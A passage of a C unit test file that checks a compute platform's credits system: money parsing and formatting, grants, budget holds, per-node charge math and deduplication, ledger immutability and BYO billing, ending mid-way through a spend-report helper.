/*
 * Credits units: exact money parsing and formatting, grants and balances,
 * holds against the org's credits and the project's budget, per-node charge
 * math and deduplication, ledger immutability, BYO billing, and the spend
 * report's grouping, totals and CSV quoting. Each test opens a fresh store.
 */
#include "cli/lib/table.h"
#include "common/buf.h"
#include "credits/credits.h"
#include "credits/spend.h"
#include "store/store_clusters.h"
#include "store/store_experiments.h"
#include "store/store_keys.h"
#include "store/store_int.h"
#include "store/store_ledger.h"
#include "tests/unit/store_fixture.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define USD(d) ((int64_t)(d)*INT64_C(1000000))

struct fixture {
	struct store_fixture tmp;
	int64_t org_id;
	char *project_id;
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));
	struct isc_err err;

	assert_non_null(f);
	store_fixture_init(&f->tmp, "credits");
	assert_int_equal(isc_store_org_add(f->tmp.s, "demo", &f->org_id, &err), 0);
	assert_int_equal(isc_store_project_add(f->tmp.s, "demo", "vision", &f->project_id, &err),
	                 0);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	store_fixture_cleanup(&f->tmp);
	free(f->project_id);
	free(f);
	return 0;
}

static void add_experiment(struct fixture *f, const char *id, const char *project_id,
                           int64_t org_id)
{
	struct isc_experiment e = {0};
	struct isc_err err;
	e.id = (char *)id;
	e.project_id = (char *)project_id;
	e.org_id = org_id;
	e.name = (char *)id;
	e.compute_mode = "burst";
	e.gpus = 8;
	e.spec_json = "{}";
	e.status = "running";
	assert_int_equal(isc_store_experiment_add(f->tmp.s, &e, &err), 0);
}

static void add_cluster(struct fixture *f, const char *id, const char *exp, const char *account,
                        int nnodes, int64_t price_micros)
{
	struct isc_cluster c = {0};
	struct isc_err err;
	char token[64];
	c.id = (char *)id;
	c.experiment_id = (char *)exp;
	c.shape_id = "aws:us-east-1:p4d.24xlarge";
	c.provider = "aws";
	c.account = (char *)account;
	c.region = "us-east-1";
	c.nnodes = nnodes;
	c.nproc = 8;
	c.price_micros = price_micros;
	snprintf(token, sizeof(token), "tok-%s", id);
	assert_int_equal(isc_store_cluster_create(f->tmp.s, &c, token, "us-east-1a", &err), 0);
}

static int64_t ledger_rows(struct fixture *f)
{
	struct isc_db_stmt *st;
	int64_t n;
	assert_int_equal(
	    isc_db_prepare(isc_store_db(f->tmp.s), "SELECT COUNT(*) FROM ledger", 0, &st),
	    ISC_DB_OK);
	assert_int_equal(isc_db_step(st), ISC_DB_ROW);
	n = isc_db_column_int64(st, 0);
	isc_db_finalize(st);
	return n;
}

static struct isc_credit_balance balance(struct fixture *f)
{
	struct isc_credit_balance b;
	struct isc_err err;
	assert_int_equal(isc_credits_balance(f->tmp.s, "demo", &b, &err), 0);
	assert_int_equal(b.available_micros, b.balance_micros - b.reserved_micros);
	return b;
}

static struct isc_charge charge(const char *exp, const char *node, int64_t price, int64_t start,
                                int64_t end)
{
	struct isc_charge c = {0};
	c.experiment_id = exp;
	c.node_instance_id = node;
	c.price_micros = price;
	c.provider = "aws";
	c.shape_id = "aws:us-east-1:p4d.24xlarge";
	c.period_start_ms = start;
	c.period_end_ms = end;
	c.billing = ISC_BILLING_CREDITS;
	return c;
}

/* ---- money and dates ---- */

static void test_money_parse(void **state)
{
	static const struct {
		const char *text;
		int64_t micros;
	} good[] = {
	    {"1500", USD(1500)},
	    {"12.50", 12500000},
	    {"0.000001", 1},
	    {"$3", USD(3)},
	    {"0", 0},
	    {"1000000000", INT64_C(1000000000000000)},
	    {"0.1", 100000},
	};
	static const struct {
		const char *text, *says;
	} bad[] = {
	    {"-5", "negative"},
	    {"1.2345678", "more than 6 decimals"},
	    {"abc", "malformed"},
	    {"1e3", "malformed"},
	    {"", "empty"},
	    {"1.", "no digits after"},
	    {".5", "write 0.5"},
	    {"1000000000.000001", "too large"},
	    {"99999999999999999999", "too large"},
	    {"1,000", "malformed"},
	    {" 5", "malformed"},
	    {"+5", "malformed"},
	};
	struct isc_err err;
	int64_t m;
	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		assert_int_equal(isc_money_parse(good[i].text, &m, &err), 0);
		assert_int_equal(m, good[i].micros);
	}
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		assert_int_equal(isc_money_parse(bad[i].text, &m, &err), ISC_EINVALID);
		if (!strstr(err.msg, bad[i].says))
			fail_msg("'%s': message '%s' lacks '%s'", bad[i].text, err.msg,
			         bad[i].says);
	}
}

static void test_money_format(void **state)
{
	char buf[40];
	(void)state;
	assert_string_equal(isc_money_format(12340000, 2, buf, sizeof(buf)), "12.34");
	assert_string_equal(isc_money_format(1, 2, buf, sizeof(buf)), "0.000001");
	assert_string_equal(isc_money_format(-5000000, 2, buf, sizeof(buf)), "-5.00");
	assert_string_equal(isc_money_format(12345678, 6, buf, sizeof(buf)), "12.345678");
	assert_string_equal(isc_money_format(12345600, 2, buf, sizeof(buf)), "12.3456");
	assert_string_equal(isc_money_format(0, 0, buf, sizeof(buf)), "0");
	assert_string_equal(isc_money_format(INT64_MIN, 6, buf, sizeof(buf)),
	                    "-9223372036854.775808");
}

static void test_dates(void **state)
{
	struct isc_err err;
	int64_t ms;
	(void)state;
	assert_int_equal(isc_date_parse("1970-01-01", &ms, &err), 0);
	assert_int_equal(ms, 0);
	assert_int_equal(isc_date_parse("2024-02-29", &ms, &err), 0);
	assert_int_equal(ms, INT64_C(1709164800000));
	assert_int_equal(isc_date_parse("2023-02-29", &ms, &err), ISC_EINVALID);
	assert_non_null(strstr(err.msg, "does not exist"));
	assert_int_equal(isc_date_parse("2024-13-01", &ms, &err), ISC_EINVALID);
	assert_int_equal(isc_date_parse("2024-1-01", &ms, &err), ISC_EINVALID);
	assert_non_null(strstr(err.msg, "YYYY-MM-DD"));
	assert_int_equal(isc_date_parse("2024/01/01", &ms, &err), ISC_EINVALID);
	assert_int_equal(isc_date_parse("1969-12-31", &ms, &err), ISC_EINVALID);
	assert_int_equal(isc_date_parse("2024-01-01T00", &ms, &err), ISC_EINVALID);
}

/* ---- grants and balances ---- */

static void test_grant_and_balance(void **state)
{
	struct fixture *f = *state;
	struct isc_credit_balance b;
	struct isc_err err;

	b = balance(f);
	assert_int_equal(b.balance_micros, 0);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(1500), "opening", &err), 0);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", 12500000, NULL, &err), 0);
	b = balance(f);
	assert_int_equal(b.balance_micros, USD(1500) + 12500000);
	assert_int_equal(b.reserved_micros, 0);
	assert_int_equal(isc_credits_adjust(f->tmp.s, "demo", -2500000, "goodwill reversal", &err),
	                 0);
	assert_int_equal(balance(f).balance_micros, USD(1510));

	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", -1, NULL, &err), ISC_EINVALID);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", 0, NULL, &err), ISC_EINVALID);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", ISC_MONEY_MAX_MICROS + 1, NULL, &err),
	                 ISC_EINVALID);
	assert_int_equal(isc_credits_grant(f->tmp.s, "nobody", 5, NULL, &err), ISC_ENOTFOUND);
	assert_non_null(strstr(err.msg, "nobody"));
	assert_int_equal(isc_credits_balance(f->tmp.s, "nobody", &b, &err), ISC_ENOTFOUND);
	assert_int_equal(isc_credits_adjust(f->tmp.s, "demo", 5, "", &err), ISC_EINVALID);
	assert_int_equal(ledger_rows(f), 3);
}

/* ---- holds ---- */

static void test_reserve_beyond_available(void **state)
{
	struct fixture *f = *state;
	struct isc_err err;
	int64_t rows;

	add_experiment(f, "exp_a", f->project_id, f->org_id);
	add_cluster(f, "cl_a", "exp_a", "default", 2, USD(10));
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", 12340000, NULL, &err), 0);
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_a", "cl_a", USD(20), &err),
	                 ISC_ECREDITS);
	assert_string_equal(
	    err.msg,
	    "organisation demo has $12.34 available; the cluster needs $20.00 for the next hour; "
	    "a grant of $7.66 or more unblocks it (isc credits grant --org demo 7.66)");
	assert_int_equal(ledger_rows(f), rows);
	assert_int_equal(balance(f).reserved_micros, 0);

	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_a", "cl_a", USD(10), &err), 0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_a", "cl_a", USD(3), &err),
	                 ISC_ECREDITS);
	assert_non_null(strstr(err.msg, "has $2.34 available"));
	assert_non_null(strstr(err.msg, "for the next 9 minutes"));
	assert_int_equal(balance(f).reserved_micros, USD(10));
	assert_int_equal(balance(f).available_micros, 2340000);

	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_nope", NULL, USD(1), &err),
	                 ISC_ENOTFOUND);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_a", NULL, 0, &err), ISC_EINVALID);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_a", NULL, -5, &err), ISC_EINVALID);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_a", "cl_nope", 5, &err), ISC_ENOTFOUND);
}

static void test_budget(void **state)
{
	struct fixture *f = *state;
	struct isc_project_money pm;
	struct isc_err err;
	int64_t rows;

	add_experiment(f, "exp_b", f->project_id, f->org_id);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(100), NULL, &err), 0);
	assert_int_equal(isc_project_set_budget(f->tmp.s, "demo", "vision", USD(5), &err), 0);
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, USD(6), &err), ISC_ECREDITS);
	assert_non_null(strstr(err.msg, "project vision has $5.00 of its $5.00 budget left"));
	assert_non_null(strstr(err.msg, "a budget of $6.00 or more unblocks it (isc project budget "
	                                "--org demo --project vision 6.00)"));
	assert_int_equal(ledger_rows(f), rows);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, USD(4), &err), 0);
	/* The hold counts against the budget until it is charged or released. */
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, USD(2), &err), ISC_ECREDITS);
	{
		struct isc_charge c = charge("exp_b", "i-1", USD(3), 0, 3600000);
		assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	}
	assert_int_equal(isc_project_money_get(f->tmp.s, f->project_id, &pm, &err), 0);
	assert_int_equal(pm.spent_micros, USD(3));
	assert_int_equal(pm.reserved_micros, USD(1));
	assert_int_equal(pm.remaining_micros, USD(1));
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, USD(1), &err), 0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, 1, &err), ISC_ECREDITS);

	/* No budget: only the org's credits limit. By id works too. */
	assert_int_equal(isc_project_set_budget(f->tmp.s, "demo", f->project_id, -1, &err), 0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, USD(50), &err), 0);
	assert_int_equal(isc_project_set_budget(f->tmp.s, "demo", "vision", 0, &err), 0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", NULL, 1, &err), ISC_ECREDITS);

	assert_int_equal(isc_project_set_budget(f->tmp.s, "demo", "nope", USD(1), &err),
	                 ISC_ENOTFOUND);
	assert_int_equal(isc_project_set_budget(f->tmp.s, "nobody", "vision", USD(1), &err),
	                 ISC_ENOTFOUND);
	assert_int_equal(isc_project_set_budget(f->tmp.s, "demo", "vision", -2, &err),
	                 ISC_EINVALID);
}

static void test_release_and_renew(void **state)
{
	struct fixture *f = *state;
	struct isc_err err;
	struct isc_charge c;
	int64_t rows;

	add_experiment(f, "exp_r", f->project_id, f->org_id);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(25), NULL, &err), 0);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_r", NULL, USD(10), &err), 0);
	assert_int_equal(balance(f).reserved_micros, USD(10));
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_r", NULL, USD(10), &err), 0);
	assert_int_equal(ledger_rows(f), rows); /* already holds the window */

	c = charge("exp_r", "i-r", USD(4), 0, 3600000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	assert_int_equal(balance(f).balance_micros, USD(21));
	assert_int_equal(balance(f).reserved_micros, USD(6));
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_r", NULL, USD(10), &err), 0);
	assert_int_equal(balance(f).reserved_micros, USD(10));
	assert_int_equal(balance(f).available_micros, USD(11));

	/* The next window costs more than the org can cover: ECREDITS, nothing written. */
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_r", NULL, USD(22), &err), ISC_ECREDITS);
	assert_non_null(strstr(err.msg, "needs $12.00 more"));
	assert_int_equal(ledger_rows(f), rows);

	assert_int_equal(isc_credits_release(f->tmp.s, "exp_r", &err), 0);
	assert_int_equal(balance(f).reserved_micros, 0);
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_release(f->tmp.s, "exp_r", &err), 0);
	assert_int_equal(ledger_rows(f), rows);
	assert_int_equal(isc_credits_release(f->tmp.s, "exp_nope", &err), ISC_ENOTFOUND);
}

/* ---- the rule for holds: renewal and release, keyed so a hold is never doubled ---- */

static int64_t held_by(struct fixture *f, const char *exp)
{
	struct isc_err err;
	int64_t held = -1;
	assert_int_equal(isc_store_ledger_experiment_held(f->tmp.s, exp, &held, &err), 0);
	return held;
}

static void test_hold_rule(void **state)
{
	struct fixture *f = *state;
	enum isc_credits_limit limit;
	struct isc_err err;
	struct isc_charge c;
	int64_t rows, released;
	int ended;

	add_experiment(f, "exp_h", f->project_id, f->org_id);
	add_cluster(f, "cl_h", "exp_h", "default", 2, USD(5)); /* window: $10 for the hour */
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(100), NULL, &err), 0);

	/* The meter's renewal lands between the cluster's row and the broker's first hold:
	 * the first hold then finds the window held, and adds nothing. */
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_h", "cl_h", USD(10), &err), 0);
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_renew_limit(f->tmp.s, "exp_h", "cl_h", USD(10), &limit, &err),
	                 0);
	assert_int_equal(limit, ISC_CREDITS_LIMIT_NONE);
	assert_int_equal(ledger_rows(f), rows);
	assert_int_equal(held_by(f, "exp_h"), USD(10));
	assert_int_equal(balance(f).reserved_micros, USD(10));

	/* The first hold refused says which limit, in the reservation's words. */
	add_experiment(f, "exp_h2", f->project_id, f->org_id);
	add_cluster(f, "cl_h2", "exp_h2", "default", 1, USD(200));
	assert_int_equal(
	    isc_credits_renew_limit(f->tmp.s, "exp_h2", "cl_h2", USD(200), &limit, &err),
	    ISC_ECREDITS);
	assert_int_equal(limit, ISC_CREDITS_LIMIT_ORG);
	assert_non_null(strstr(err.msg, "has $90.00 available; the cluster needs $200.00 for the "
	                                "next hour; a grant of $110.00"));

	/* A cluster being torn down takes no hold: its renewal is a no-op, a reserve refused. */
	c = charge("exp_h", "i-h", USD(5), 0, 3600000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	assert_int_equal(held_by(f, "exp_h"), USD(5));
	assert_int_equal(isc_store_cluster_set_state(f->tmp.s, "cl_h", "terminating", &err), 0);
	rows = ledger_rows(f);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_h", "cl_h", USD(10), &err), 0);
	assert_int_equal(ledger_rows(f), rows);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_h", "cl_h", USD(1), &err),
	                 ISC_ECONFLICT);
	assert_non_null(strstr(err.msg, "cluster cl_h is terminating"));
	assert_int_equal(ledger_rows(f), rows);

	/* Its experiment still has an open cluster: settling releases nothing. */
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_h", 3600000, &released, &ended, &err),
	                 0);
	assert_int_equal(released, 0);
	assert_int_equal(held_by(f, "exp_h"), USD(5));
	/* More than one window of its open clusters (a larger cluster that closed left its
	 * hold): settling gives back the excess only. The window here is 15 min: $2.50. */
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_h", 900000, &released, &ended, &err), 0);
	assert_int_equal(released, USD(5) - USD(5) / 2);
	assert_int_equal(ended, 0);
	assert_int_equal(held_by(f, "exp_h"), USD(5) / 2);
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_h", 900000, &released, &ended, &err), 0);
	assert_int_equal(released, 0);

	/* A renewal that raced the experiment's end releases what it finds, adds nothing. */
	assert_int_equal(isc_store_cluster_set_state(f->tmp.s, "cl_h", "running", &err), 0);
	assert_int_equal(isc_store_experiment_transition(f->tmp.s, "exp_h", "running", "completed",
	                                                 "done", &err),
	                 0);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_h", "cl_h", USD(10), &err), 0);
	assert_int_equal(held_by(f, "exp_h"), 0);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_h", "cl_h", USD(10), &err), 0);
	assert_int_equal(held_by(f, "exp_h"), 0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_h", NULL, USD(1), &err), ISC_ECONFLICT);
	assert_non_null(strstr(err.msg, "exp_h is completed"));
	assert_int_equal(balance(f).reserved_micros, 0);

	/* Ending releases: a hold left on an ended experiment is settled. */
	add_experiment(f, "exp_h3", f->project_id, f->org_id);
	add_cluster(f, "cl_h3", "exp_h3", "default", 1, USD(3));
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_h3", "cl_h3", USD(3), &err), 0);
	assert_int_equal(
	    isc_store_experiment_transition(f->tmp.s, "exp_h3", "running", "failed", "x", &err), 0);
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_h3", 3600000, &released, &ended, &err),
	                 0);
	assert_int_equal(released, USD(3));
	assert_int_equal(ended, 1);
	assert_int_equal(held_by(f, "exp_h3"), 0);

	/* A live experiment whose clusters all closed: nothing would release it but this. */
	add_experiment(f, "exp_h4", f->project_id, f->org_id);
	add_cluster(f, "cl_h4", "exp_h4", "default", 1, USD(4));
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_h4", "cl_h4", USD(4), &err), 0);
	assert_int_equal(isc_store_cluster_set_state(f->tmp.s, "cl_h4", "closed", &err), 0);
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_h4", 3600000, &released, &ended, &err),
	                 0);
	assert_int_equal(released, USD(4));
	assert_int_equal(ended, 0);
	assert_int_equal(balance(f).reserved_micros, 0);
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_nope", 3600000, &released, &ended, &err),
	                 ISC_ENOTFOUND);
}

static int skip_one(const char *experiment_id, void *ctx)
{
	return strcmp(experiment_id, ctx) == 0;
}

static size_t check_holds(struct fixture *f, enum isc_holds_check what, const char *skip,
                          const char *expect)
{
	struct isc_buf report;
	struct isc_err err;
	size_t violations = 99;

	isc_buf_init(&report, 1 << 16);
	assert_int_equal(isc_credits_holds_check(f->tmp.s, what, 3600000, skip ? skip_one : NULL,
	                                         (void *)skip, &report, &violations, &err),
	                 0);
	if (!expect)
		assert_string_equal(isc_buf_cstr(&report), "");
	else if (!strstr(isc_buf_cstr(&report), expect))
		fail_msg("expected '%s' in the report: %s", expect, isc_buf_cstr(&report));
	isc_buf_cleanup(&report);
	return violations;
}

static void test_holds_check(void **state)
{
	struct fixture *f = *state;
	struct isc_ledger_row row = {0};
	struct isc_err err;
	struct isc_charge c;

	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(20), NULL, &err), 0);
	add_experiment(f, "exp_a", f->project_id, f->org_id);
	add_cluster(f, "cl_a", "exp_a", "default", 1, USD(10));
	add_experiment(f, "exp_b", f->project_id, f->org_id);
	add_cluster(f, "cl_b", "exp_b", "default", 1, USD(10));
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_a", "cl_a", USD(10), &err), 0);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_b", "cl_b", USD(10), &err), 0);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, NULL, NULL), 0);

	/* A charge beyond its hold: balance $5 under $10 of holds, as docs/credits.md allows
	 * (the overspend bound), so no violation. */
	c = charge("exp_a", "i-a", USD(15), 0, 3600000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	assert_int_equal(balance(f).balance_micros, USD(5));
	assert_int_equal(balance(f).reserved_micros, USD(10));
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, NULL, NULL), 0);

	/* A hold written past the check (the old additive first hold after a renewal). */
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(100), NULL, &err), 0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_b", "cl_b", USD(10), &err), 0);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, NULL,
	                             "experiment exp_b (running) holds $20.00, more than the "
	                             "$10.00 window of its largest open cluster: a hold was "
	                             "doubled"),
	                 1);
	/* A step in flight is not checked. */
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, "exp_b", NULL), 0);
	assert_int_equal(isc_credits_release(f->tmp.s, "exp_b", &err), 0);

	/* A hold whose cluster closed: nothing will consume or release it. */
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_b", "cl_b", USD(10), &err), 0);
	assert_int_equal(isc_store_cluster_set_state(f->tmp.s, "cl_b", "closed", &err), 0);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, NULL,
	                             "experiment exp_b (running) holds $10.00 without an open "
	                             "cluster"),
	                 1);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ENDED, NULL, NULL), 0);

	/* An experiment that ended holding (a missed release, or a renewal that raced it). */
	assert_int_equal(
	    isc_store_experiment_transition(f->tmp.s, "exp_b", "running", "cancelled", "x", &err),
	    0);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ENDED, NULL,
	                             "experiment exp_b is cancelled but still holds $10.00"),
	                 1);
	assert_int_equal(isc_credits_settle(f->tmp.s, "exp_b", 3600000, NULL, NULL, &err), 0);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, NULL, NULL), 0);

	/* Holds beyond what covered them: a reserve row no check let through. */
	row.org_id = f->org_id;
	row.project_id = f->project_id;
	row.experiment_id = "exp_a";
	row.cluster_id = "cl_a";
	row.kind = "reserve";
	row.billing = "credits";
	row.amount_micros = USD(500);
	assert_int_equal(isc_store_ledger_append(f->tmp.s, &row, &err), 0);
	assert_int_equal(check_holds(f, ISC_HOLDS_CHECK_ALL, "exp_a",
	                             "holds $500.00 with a balance of $105.00, of which $5.00 is "
	                             "charges no hold covered"),
	                 1);
}

/* ---- charges ---- */

static void test_charge_math(void **state)
{
	struct fixture *f = *state;
	struct isc_err err;
	struct isc_charge c;
	int64_t got;
	(void)state;

	/* $32.77/h for 90 s = $0.81925 exactly; for 91 s = 0.828352777... rounds up. */
	assert_int_equal(isc_credits_cost_micros(32770000, 90000), 819250);
	assert_int_equal(isc_credits_cost_micros(32770000, 91000), 828353);
	assert_int_equal(isc_credits_cost_micros(1000001, 1), 1);
	assert_int_equal(isc_credits_cost_micros(0, 3600000), 0);
	assert_int_equal(isc_credits_cost_micros(USD(100), 3600000), USD(100));
	assert_int_equal(isc_credits_cost_micros(ISC_MONEY_MAX_MICROS, INT64_MAX), -1);
	assert_int_equal(isc_credits_cost_micros(-1, 1), -1);

	add_experiment(f, "exp_c", f->project_id, f->org_id);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(10), NULL, &err), 0);
	c = charge("exp_c", "i-c", 32770000, 1000, 91000);
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 819250);
	c = charge("exp_c", "i-c", 32770000, 91000, 182000);
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 828353);
	assert_int_equal(balance(f).balance_micros, USD(10) - 819250 - 828353);
	assert_int_equal(isc_credits_experiment_cost(f->tmp.s, "exp_c", &got, &err), 0);
	assert_int_equal(got, 819250 + 828353);
}

static void test_charge_dedup(void **state)
{
	struct fixture *f = *state;
	struct isc_err err;
	struct isc_charge c;
	int64_t got, rows;

	add_experiment(f, "exp_d", f->project_id, f->org_id);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(100), NULL, &err), 0);
	c = charge("exp_d", "i-d", USD(36), 0, 60000); /* $36/h = $0.01/s */
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 600000);
	rows = ledger_rows(f);
	/* The same period again (a retry after a crash): nothing. */
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 0);
	assert_int_equal(ledger_rows(f), rows);
	/* Overlapping: only the part after the last charged end. */
	c = charge("exp_d", "i-d", USD(36), 30000, 120000);
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 600000);
	/* Entirely before: nothing. Another node: charged on its own. */
	c = charge("exp_d", "i-d", USD(36), 0, 100000);
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 0);
	c = charge("exp_d", "i-e", USD(36), 0, 60000);
	assert_int_equal(isc_credits_charge_node_report(f->tmp.s, &c, &got, &err), 0);
	assert_int_equal(got, 600000);
	assert_int_equal(balance(f).balance_micros, USD(100) - 1800000);

	/* Bad input. */
	c = charge("exp_d", "i-d", USD(36), 5000, 5000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), ISC_EINVALID);
	c = charge("exp_d", "i-d", -1, 0, 5000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), ISC_EINVALID);
	c = charge("exp_d", NULL, USD(1), 0, 5000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), ISC_EINVALID);
	c = charge("exp_zzz", "i-z", USD(1), 0, 5000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), ISC_ENOTFOUND);
}

static void test_ledger_immutable(void **state)
{
	struct fixture *f = *state;
	struct isc_err err;
	struct isc_db *db = isc_store_db(f->tmp.s);

	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(1), NULL, &err), 0);
	assert_int_equal(isc_db_exec(db, "UPDATE ledger SET amount_micros = 99000000"),
	                 ISC_DB_CONSTRAINT);
	assert_non_null(strstr(isc_db_errmsg(db), "immutable"));
	assert_int_equal(isc_db_exec(db, "DELETE FROM ledger"), ISC_DB_CONSTRAINT);
	assert_non_null(strstr(isc_db_errmsg(db), "immutable"));
	assert_int_equal(balance(f).balance_micros, USD(1));
	assert_int_equal(ledger_rows(f), 1);
}

static void test_byo(void **state)
{
	struct fixture *f = *state;
	struct isc_spend_query q = {0};
	struct isc_spend_row *rows;
	enum isc_billing b;
	struct isc_err err;
	struct isc_charge c;
	int64_t n0, cost;
	size_t n;

	add_experiment(f, "exp_y", f->project_id, f->org_id);
	{
		/* A cluster is recorded only on a registered, active key (store_clusters.c). */
		unsigned char blob[12] = {0}; /* no secret: never opened */
		struct isc_cloud_key k = {.id = "key_0123",
		                          .org_id = f->org_id,
		                          .provider = "aws",
		                          .name = "byo",
		                          .nonce = blob,
		                          .nonce_len = sizeof(blob),
		                          .ciphertext = blob,
		                          .ciphertext_len = sizeof(blob)};
		assert_int_equal(isc_store_key_add(f->tmp.s, &k, &err), 0);
	}
	add_cluster(f, "cl_y", "exp_y", "key_0123", 1, USD(40));
	add_cluster(f, "cl_z", "exp_y", "default", 1, USD(40));
	assert_int_equal(isc_credits_cluster_billing(f->tmp.s, "cl_y", &b, &err), 0);
	assert_int_equal(b, ISC_BILLING_BYO);
	assert_int_equal(isc_credits_cluster_billing(f->tmp.s, "cl_z", &b, &err), 0);
	assert_int_equal(b, ISC_BILLING_CREDITS);
	/* No credits at all, yet a BYO cluster may run: nothing is held. */
	n0 = ledger_rows(f);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_y", "cl_y", USD(40), &err), 0);
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_y", "cl_y", USD(40), &err), 0);
	assert_int_equal(ledger_rows(f), n0);
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_y", "cl_z", USD(40), &err),
	                 ISC_ECREDITS);

	c = charge("exp_y", "i-y", USD(40), 0, 1800000);
	c.cluster_id = "cl_y";
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err),
	                 ISC_EINVALID); /* says credits */
	c.billing = ISC_BILLING_BYO;
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	assert_int_equal(balance(f).balance_micros, 0);
	assert_int_equal(isc_credits_experiment_cost(f->tmp.s, "exp_y", &cost, &err), 0);
	assert_int_equal(cost, USD(20));

	q.billing = "credits";
	assert_int_equal(isc_store_ledger_spend(f->tmp.s, &q, &rows, &n, &err), 0);
	assert_int_equal(n, 0);
	isc_spend_rows_free(rows, n);
	q.billing = "byo";
	assert_int_equal(isc_store_ledger_spend(f->tmp.s, &q, &rows, &n, &err), 0);
	assert_int_equal(n, 1);
	assert_int_equal(rows[0].amount_micros, USD(20));
	isc_spend_rows_free(rows, n);
}

/* ---- spend ---- */

#define DAY1 INT64_C(1717200000000) /* 2024-06-01T00:00:00Z */

static int64_t spend_total(struct fixture *f, struct isc_spend_query *q,
                           struct isc_spend_row **rows, size_t *n)
{
	struct isc_err err;
	int64_t total;
